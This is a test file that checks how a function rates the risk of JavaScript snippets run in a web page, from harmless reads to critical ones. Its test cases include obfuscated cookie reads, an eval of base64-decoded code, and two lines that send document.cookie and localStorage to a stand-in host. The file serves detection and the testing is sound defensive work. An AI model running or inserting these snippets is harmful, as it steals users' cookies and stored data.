import { describe, expect, it } from 'vitest'
import type { RiskLevel } from '../report/level.ts'
import { ratePageCode } from './code.ts'

describe('code in a web page', () => {
  it.each<[string, RiskLevel]>([
    ['() => document.title', 'medium'],
    ["() => localStorage.getItem('theme')", 'medium'],
    ["() => fetch('/api/items').then((r) => r.json())", 'medium'],
    ["document.querySelector('#next').click()", 'medium'],
    ['document.forms[0].submit()', 'high'],
    ['localStorage.clear()', 'high'],
    ['document.cookie', 'high'],
    ["document['coo' + 'kie']", 'high'],
    ['document.\\u0063ookie', 'high'],
    ["fetch('/api/users/4', { method: 'DELETE' })", 'high'],
    ["document.querySelector('#delete-account').click()", 'high'],
    ["eval(atob('eA=='))", 'high'],
    ["fetch('https://x.example/?' + document.cookie)", 'critical'],
    ["navigator.sendBeacon('https://x.example', JSON.stringify(localStorage))", 'critical'],
  ])('`%s` is %s', (code, level) => {
    expect(ratePageCode(code).level).toBe(level)
  })

  it('is high if it is too long to analyze', () => {
    expect(ratePageCode('a'.repeat(70_000)).level).toBe('high')
  })
})
